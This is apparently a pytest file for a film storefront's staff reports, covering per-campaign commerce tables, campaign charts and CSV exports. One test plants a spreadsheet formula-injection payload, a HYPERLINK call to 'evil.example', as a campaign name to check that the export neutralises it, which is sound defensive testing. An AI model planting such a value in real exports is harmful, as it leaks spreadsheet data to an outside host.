"""The console's film-to-commerce report by campaign (SPEC §9): each film's orders by the
campaign they are attributed to, with the campaign report's figures, and a CSV equal to the
page; and the campaign's own page: charts of counts, attach rate and money, and its CSV equal
to its table."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import httpx
from sqlalchemy import select

from catalog.models import Film
from kernel.db import Database
from licensing.ledger import SaleLine, post_sales
from licensing.models import Channel
from orders.models import LineKind, Order, OrderLine
from orders.promotion_models import Campaign
from orders.promotions import create_campaign
from tests.factory import staff_member, staff_world
from tests.prices import usd
from tests.storefront.console import sign_in
from tests.storefront.test_staff_reports import PAID_AT, _csv_as_displayed, _film_orders, _tables

MONEY = {"gross", "discounts", "net", "campaign_royalty"}


async def _attributed(db: Database) -> int:
    """Night Train's two ticket orders of 2025-Q3 (tests.storefront.test_staff_reports); R-1
    (two tickets at 15.00 and a tee at 25.00) from the campaign "Reels <&> Co" with 3.00 off
    its tee, the tee posted to the ledger at its net 22.00; the campaign's id."""
    world = await staff_world(db)
    await _film_orders(db, world.film_ids[0], world.product_ids[0])
    async with db.session() as s:
        campaign = await create_campaign(
            s, name="Reels <&> Co", channel="social", film_ids=[world.film_ids[0]],
            starts_at=PAID_AT - timedelta(days=5), ends_at=PAID_AT + timedelta(days=5),
        )  # fmt: skip
        order = await s.scalar(select(Order).where(Order.number == "R-1"))
        order.campaign_id = campaign.id
        order.discount_minor = 300
        tee = await s.scalar(
            select(OrderLine).where(
                OrderLine.order_id == order.id, OrderLine.kind == LineKind.PRODUCT
            )
        )
        tee.discount_minor = 300
        await post_sales(
            s,
            [SaleLine(f"order_line:{tee.id}", tee.product_id, 1, 2200, Channel.STOREFRONT, "US",
                      PAID_AT)],
            now=PAID_AT,
        )  # fmt: skip
        return campaign.id


async def test_the_film_commerce_report_splits_each_film_by_campaign_page_and_csv_alike(
    client: httpx.AsyncClient, db: Database
) -> None:
    # given Night Train's two ticket orders, one of them from a campaign
    await _attributed(db)
    await staff_member(db)
    await sign_in(client)

    page = await client.get("/staff/reports?period=2025-Q3")
    assert page.status_code == 200
    table = _tables(page.text)["film-campaigns-table"]
    assert table[0] == ["Film", "Campaign", "Orders", "Tickets", "Bundles", "Merch units",
                        "Attach rate", "Currency", "Gross", "Discounts", "Net",
                        "Royalty"]  # fmt: skip
    assert "Reels &lt;&amp;&gt; Co" in page.text and "Reels <&> Co" not in page.text
    link = 'href="/staff/reports/film-commerce-by-campaign.csv?period=2025-Q3"'
    assert link in page.text
    download = await client.get("/staff/reports/film-commerce-by-campaign.csv?period=2025-Q3")
    assert download.headers["content-type"].startswith("text/csv")
    _, rows = _csv_as_displayed(download.text, MONEY)
    assert table[1:] == rows

    night = [r for r in table[1:] if r[0] == "Night Train"]
    # then the campaign's row: 1 order, 2 tickets, the tee, 100 %; 55.00 - 3.00 = 52.00, and
    # 10 % of the tee's 22.00; the order of no campaign: 1 ticket, 15.00, no royalty
    assert night == [
        ["Night Train", "Reels <&> Co", "1", "2", "0", "1", "100.0 %", "USD",
         usd(5500), usd(300), usd(5200), usd(220)],
        ["Night Train", "No campaign", "1", "1", "0", "0", "0.0 %", "USD",
         usd(1500), usd(0), usd(1500), "—"],
    ]  # fmt: skip
    by_csv = [r for r in csv.DictReader(io.StringIO(download.text)) if r["film"] == "Night Train"]
    assert [(r["campaign"], r["net"], r["campaign_royalty"]) for r in by_csv] == [
        ("Reels <&> Co", "52.00", "2.20"),
        ("No campaign", "15.00", ""),
    ]


async def test_the_campaign_page_charts_counts_attach_rate_and_money_as_its_csv_says(
    client: httpx.AsyncClient, db: Database
) -> None:
    campaign_id = await _attributed(db)
    await staff_member(db)
    await sign_in(client)
    path = f"/staff/campaigns/{campaign_id}"
    page = await client.get(f"{path}?period=2025-Q3")
    assert page.status_code == 200
    # three charts: the funnel of counts, the attach rate, the money in USD
    assert page.text.count("<svg") == 3
    for ident in ("chart-campaign-funnel", "chart-campaign-attach", "chart-campaign-money-usd"):
        assert f'id="{ident}-title"' in page.text
    assert "Reels &lt;&amp;&gt; Co: attach rate 100.0 %, 2025-Q3" in page.text
    money_chart = page.text[page.text.index('id="chart-campaign-money-usd-title"') :]
    money_chart = money_chart[: money_chart.index("</svg>")]
    for label, amount in (("Gross", 5500), ("Discounts", 300), ("Net", 5200), ("Royalty", 220)):
        assert label in money_chart and usd(amount) in money_chart, label
    # the table and the CSV: every figure of SPEC §9
    table = _tables(page.text)["campaign-report-table"]
    download = await client.get(f"{path}/report.csv?period=2025-Q3")
    header, rows = _csv_as_displayed(download.text, {"gross", "discounts", "net", "royalty"})
    assert table[1:] == rows
    assert header == ["period", "referral_visits", "orders", "tickets", "bundles", "merch_units",
                      "attach_rate", "currency", "gross", "discounts", "net",
                      "royalty"]  # fmt: skip
    assert rows == [["2025-Q3", "0", "1", "2", "0", "1", "100.0 %", "USD", usd(5500), usd(300),
                     usd(5200), usd(220)]]  # fmt: skip


async def test_formula_names_of_campaigns_and_films_are_text_in_the_by_campaign_csv(
    client: httpx.AsyncClient, db: Database
) -> None:
    # a campaign or film name a spreadsheet would run (=, +, -, @) reaches it as text
    campaign_id = await _attributed(db)
    async with db.session() as s:
        campaign = await s.get(Campaign, campaign_id)
        campaign.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        film = await s.scalar(select(Film).where(Film.title == "Night Train"))
        film.title = "@SUM(1+1)"
    await staff_member(db)
    await sign_in(client)
    download = await client.get("/staff/reports/film-commerce-by-campaign.csv?period=2025-Q3")
    rows = list(csv.reader(io.StringIO(download.text)))
    ours = [r for r in rows[1:] if r[1].startswith("'=")]
    assert ours and all(r[0] == "'@SUM(1+1)" for r in ours), rows
    assert ours[0][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert not any(cell[:1] in "=+-@" for r in rows for cell in r[:2] if cell)
    page = await client.get("/staff/reports?period=2025-Q3")
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1" in page.text
